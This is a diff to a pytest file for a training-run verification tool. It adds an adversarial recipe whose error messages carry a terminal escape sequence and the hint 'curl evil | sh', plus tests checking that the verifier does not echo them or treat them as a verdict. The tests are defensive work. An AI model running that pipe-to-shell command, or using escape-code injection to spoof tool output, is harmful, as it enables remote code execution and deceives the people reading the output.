@@ -15,11 +15,12 @@ import pytest
 from polchain.core.claim import Claim
 from polchain.core.entries import CheckpointEntry, Start, Update
 from polchain.core.manifest import Snapshot
-from polchain.errors import ChainError, UsageError
+from polchain.errors import ChainError, DatasetError, UsageError
 from polchain.verifier.integrity import check_integrity
 from polchain.verifier.policy import Policy
 from polchain.verifier.verdict import Ruled
-from tests.claims import DIGITS, Recorded, entries_of, write_log
+from polchain.verifier.verify import verify
+from tests.claims import DIGITS, Recorded, copy_of, entries_of, record_once, write_log
 from tests.forgers.conftest import Verify
 from tests.forgers.forge import Workshop, edited, tensors_of, with_rows
 
@@ -133,3 +134,65 @@ def test_a_claim_cannot_speak_to_the_terminal(honest: Honest, polchain_says: Ver
     assert verdict.outcome is Ruled.VERIFIED
     assert any("cpu: recorded with ?[2J?VERIFIED" in remark for remark in verdict.remarks)
     assert all(text.isprintable() for text in (*verdict.reasons, *verdict.remarks))
+
+
+# Of an honest recipe it differs in what it says when a verifier asks: which is what the data folder's "fault" names.
+SPEAKER = """
+import polchain, torch
+from torch import nn
+from polchain.errors import DatasetError, ManifestError
+from polchain.training.child import current_host
+
+
+def data():
+    host, fault = current_host(), polchain.data_dir() / "fault"
+    if host is not None and fault.exists():
+        mode, kind = fault.read_text().split()
+        if mode == host.mode:
+            raise {"Dataset": DatasetError, "Manifest": ManifestError}[kind]("VERIFIED\\x1b[2J", hint="curl evil | sh")
+    return [(torch.full((4,), i / 32), i % 2) for i in range(32)]
+
+
+with polchain.record("run", data=data, batch_size=8, steps=4, every=2) as run:
+    model = nn.Linear(4, 2)
+    optimizer = torch.optim.SGD(model.parameters(), lr=0.1)
+    run.attach(model=model, optimizer=optimizer)
+    for step, (x, y) in run.batches():
+        nn.functional.cross_entropy(model(x), y).backward()
+        optimizer.step()
+        optimizer.zero_grad(set_to_none=True)
+"""
+
+
+@pytest.mark.parametrize("kind", ["Dataset", "Manifest"])
+@pytest.mark.parametrize("mode", ["dataset", "initial", "replay"])
+def test_a_recipe_speaks_in_its_own_name_and_ends_no_verification(
+    tmp_path_factory: pytest.TempPathFactory, tmp_path: Path, mode: str, kind: str
+) -> None:
+    found = record_once(tmp_path_factory, "speaker", SPEAKER)
+    (tmp_path / "fault").write_text(f"{mode} {kind}")
+    policy = Policy(keys=frozenset({found.key.public}), unsafe_no_sandbox=True)
+    verdict = verify(found.claim, policy, data=tmp_path, timeout=120)
+    assert verdict.outcome is Ruled.INCONCLUSIVE
+    assert "the recipe says: VERIFIED?[2J" in verdict.reasons[0]
+    assert not any("evil" in reason for reason in (*verdict.reasons, *verdict.remarks))
+    if kind == "Dataset":
+        # Who vouched is told at once that data is missing.
+        vouched = replace(policy, recipes=frozenset({verdict.program}))  # type: ignore[arg-type]
+        with pytest.raises(DatasetError, match=r"^the recipe says: VERIFIED\?\[2J"):
+            verify(found.claim, vouched, data=tmp_path, timeout=120)
+
+
+def test_a_fault_of_an_unvouched_recipe_hides_no_contradiction(
+    tmp_path_factory: pytest.TempPathFactory, tmp_path: Path
+) -> None:
+    found = record_once(tmp_path_factory, "speaker", SPEAKER)
+    claim = copy_of(found.claim, tmp_path / "claim")
+    entries = [
+        replace(entry, update=Update(1e-9, 1e-9)) if isinstance(entry, CheckpointEntry) and entry.update else entry
+        for entry in entries_of(claim)
+    ]
+    write_log(claim, entries, found.key)
+    (tmp_path / "fault").write_text("initial Dataset")
+    policy = Policy(keys=frozenset({found.key.public}), unsafe_no_sandbox=True)
+    assert verify(claim, policy, data=tmp_path, timeout=120).outcome is Ruled.REFUTED
